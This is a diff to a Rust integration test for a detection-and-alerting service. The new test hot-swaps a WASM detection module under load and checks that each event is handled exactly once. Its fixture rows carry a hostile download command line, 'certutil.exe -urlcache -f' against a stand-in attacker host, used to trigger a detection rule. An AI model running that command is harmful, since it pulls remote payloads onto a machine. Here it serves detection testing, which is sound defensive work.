@@ -3,13 +3,18 @@
 //! allocator, raise alerts that the Alerts module e-mails, keep state across
 //! restarts, and pass `velonotify test`.
 
+use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
+use std::time::Duration;
 
 use base64::Engine as _;
 use serde_json::{Value, json};
-use velonotify_test_support::{data, emails, header, jsonl, python_modules_dir, scratch, stderr};
+use velonotify::store::{Payload, Status, Store};
+use velonotify_test_support::peers::free_port;
+use velonotify_test_support::service::{Running, metric, post_events, rows_reaching};
+use velonotify_test_support::{data, emails, header, jsonl, modules_dir, python_modules_dir, scratch, stderr};
 
-use super::{replay, replay_with, velonotify, write_config};
+use super::{EXE, replay, replay_with, velonotify, write_config};
 
 const T0: u64 = 1_778_400_000; // 2026-05-10T08:00:00Z
 const WIN: &str = "C.91ac3d5e7f20b846";
@@ -217,4 +222,136 @@ fn velonotify_test_prints_a_modules_actions_and_checks_them() {
         "{}",
         stderr(&bad)
     );
+}
+
+/// `bytes` (a component) with a custom section naming `tag` appended: a
+/// valid component that is another build (another digest) of the same code.
+fn another_build(bytes: &[u8], tag: &str) -> Vec<u8> {
+    let name = b"velonotify-test-build";
+    let mut payload = vec![name.len() as u8];
+    payload.extend_from_slice(name);
+    payload.extend_from_slice(tag.as_bytes());
+    assert!(payload.len() < 128, "one byte of LEB128 length");
+    let mut out = bytes.to_vec();
+    out.extend_from_slice(&[0, payload.len() as u8]);
+    out.extend_from_slice(&payload);
+    out
+}
+
+#[test]
+fn a_python_module_is_swapped_under_load_and_every_row_is_handled_once() {
+    const ROWS: u64 = 1200;
+    const BATCH: u64 = 100;
+    const TOKEN: &str = "ingest-token-0123456789";
+    let dir = scratch();
+    let original = std::fs::read(python_module("process_creation")).unwrap();
+    std::fs::write(dir.path().join("rule.wasm"), &original).unwrap();
+    // The new build is compiled into the shared cache first (a debug
+    // build compiles a Python component slowly): the swap itself is timed
+    // by the service, not here.
+    let next = another_build(&original, "v2");
+    let staged = dir.path().join("next.wasm");
+    std::fs::write(&staged, &next).unwrap();
+    let empty = write_rows(dir.path(), "none.jsonl", &[]);
+    let cache = velonotify_test_support::cache_dir();
+    let warmed = velonotify(&[
+        "test",
+        &staged.display().to_string(),
+        "--events",
+        &empty.display().to_string(),
+        "--cache-dir",
+        &cache.display().to_string(),
+    ]);
+    assert!(warmed.status.success(), "{}", stderr(&warmed));
+
+    let (ingest, metrics) = (free_port(), free_port());
+    let config = write_config(
+        dir.path(),
+        &format!(
+            r#"
+[host]
+state = "state.db"
+cache_dir = "{cache}"
+
+[lookups]
+world = "{world}"
+
+[reload]
+poll_ms = 50
+
+[metrics]
+listen = "127.0.0.1:{metrics}"
+
+[ingest]
+listen = "127.0.0.1:{ingest}"
+token = "{TOKEN}"
+
+[[module]]
+name = "detections"
+path = "{rule}"
+[module.params]
+Dedup = -1
+
+[[module]]
+path = "user_message.wasm"
+"#,
+            cache = cache.display(),
+            world = data("demo/world.json").display(),
+            rule = dir.path().join("rule.wasm").display(),
+        ),
+    );
+    let mut run = Running::start_in(EXE, &config, &modules_dir());
+    run.wait("the ingest endpoint", Duration::from_secs(120), |r| {
+        r.log().contains("HTTP ingest at")
+    });
+    let post = |first: u64| {
+        let body: String = (first..first + BATCH)
+            .map(|n| {
+                let mut row = process(
+                    T0 + n,
+                    "certutil.exe",
+                    "certutil.exe -urlcache -f http://evil.example/x",
+                );
+                row["PID"] = json!(n);
+                format!("{row}\n")
+            })
+            .collect();
+        let (status, answer) = post_events(
+            ingest,
+            Some(TOKEN),
+            "queue=Windows.Events.ProcessCreation",
+            body.as_bytes(),
+        );
+        assert_eq!(status, 200, "{answer}");
+    };
+    let swapped = "velonotify_module_swaps_total{module=\"detections\",result=\"swapped\"}";
+    for first in (0..ROWS).step_by(BATCH as usize) {
+        post(first);
+        if first == ROWS / 2 {
+            std::fs::rename(&staged, dir.path().join("rule.wasm")).unwrap();
+            run.wait("the swap", Duration::from_secs(120), |_| metric(metrics, swapped) == 1);
+        }
+    }
+    run.wait("every row handled", Duration::from_secs(120), |_| {
+        rows_reaching(metrics, "detections") >= ROWS
+    });
+
+    let store = Store::open(&dir.path().join("state.db")).unwrap();
+    let mut handled: BTreeMap<u64, u32> = BTreeMap::new();
+    for item in store.list(Some(Status::WaitingApi), usize::MAX).unwrap() {
+        let Payload::UserMessage(message) = item.unwrap().payload else {
+            panic!("only user messages wait for the API")
+        };
+        *handled
+            .entry(message.message["Alert"]["PID"].as_u64().unwrap())
+            .or_default() += 1;
+    }
+    let lost: Vec<u64> = (0..ROWS).filter(|n| !handled.contains_key(n)).collect();
+    let doubled: Vec<(&u64, &u32)> = handled.iter().filter(|(_, count)| **count > 1).collect();
+    assert!(
+        lost.is_empty() && doubled.is_empty(),
+        "lost {lost:?}, doubled {doubled:?}"
+    );
+    assert_eq!(handled.len() as u64, ROWS);
+    assert_eq!(metric(metrics, swapped), 1);
 }
